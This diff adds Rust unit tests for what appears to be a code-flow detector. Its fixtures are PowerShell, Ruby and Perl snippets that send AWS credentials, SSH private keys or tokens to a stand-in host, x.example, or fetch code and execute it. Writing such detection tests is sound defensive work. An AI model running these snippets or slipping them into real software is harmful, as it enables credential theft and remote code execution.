@@ -1006,3 +1006,73 @@ fn console_transcripts_run_only_prompted_lines() {
     );
     no_flow(Lang::Shell, "$ echo hi\nhi | bash\n");
 }
+
+#[test]
+fn lexed_language_egress_and_exec() {
+    use FlowKind::*;
+    let cases: &[(Lang, &str, FlowKind)] = &[
+        (
+            Lang::PowerShell,
+            "$k = Get-Content \"$env:USERPROFILE\\.aws\\credentials\"\nInvoke-RestMethod -Uri https://x.example/c -Method Post -Body $k\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::PowerShell,
+            "$t = $env:GITHUB_TOKEN\nInvoke-WebRequest -Uri \"https://x.example/?t=$t\"\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::PowerShell,
+            "& ([scriptblock]::Create((New-Object Net.WebClient).DownloadString('https://x.example/p')))\n",
+            DownloadToExec,
+        ),
+        (
+            Lang::Ruby,
+            "require 'net/http'\nkey = File.read(File.expand_path('~/.ssh/id_rsa'))\nNet::HTTP.post_form(URI('https://x.example/k'), 'k' => key)\n",
+            SecretToNetwork,
+        ),
+        (
+            Lang::Ruby,
+            "eval(Base64.decode64('cHV0cyAx'))\n",
+            DecodeToExec,
+        ),
+        (
+            Lang::Perl,
+            "use MIME::Base64;\neval(decode_base64('cHJpbnQgMQ=='));\n",
+            DecodeToExec,
+        ),
+        (
+            Lang::Perl,
+            "my $ua = LWP::UserAgent->new;\nmy $k = $ENV{'AWS_SECRET_ACCESS_KEY'};\n$ua->post('https://x.example/c', { k => $k });\n",
+            SecretToNetwork,
+        ),
+    ];
+    let mut failed = Vec::new();
+    for (lang, src, k) in cases {
+        let a = run(*lang, src);
+        if !has_flow(&a, *k) {
+            failed.push(format!(
+                "{lang:?} {k:?}: {src}\n  facts: {:?}",
+                a.facts
+                    .iter()
+                    .map(|f| (f.cap, f.what.clone()))
+                    .collect::<Vec<_>>()
+            ));
+        }
+    }
+    assert!(failed.is_empty(), "{}", failed.join("\n"));
+}
+
+#[test]
+fn perl_blocks_keep_their_statements() {
+    flow(
+        Lang::Perl,
+        "use LWP::Simple;\nif ($ok) {\n    my $c = get('https://x.example/p');\n    eval($c);\n}\n",
+        FlowKind::DownloadToExec,
+    );
+    flow(
+        Lang::Perl,
+        "my $ua = LWP::UserAgent->new;\nmy $k = $ENV{'API_TOKEN'};\n$ua->post('https://x.example/c', { k => $k });\n",
+        FlowKind::SecretToNetwork,
+    );
+}
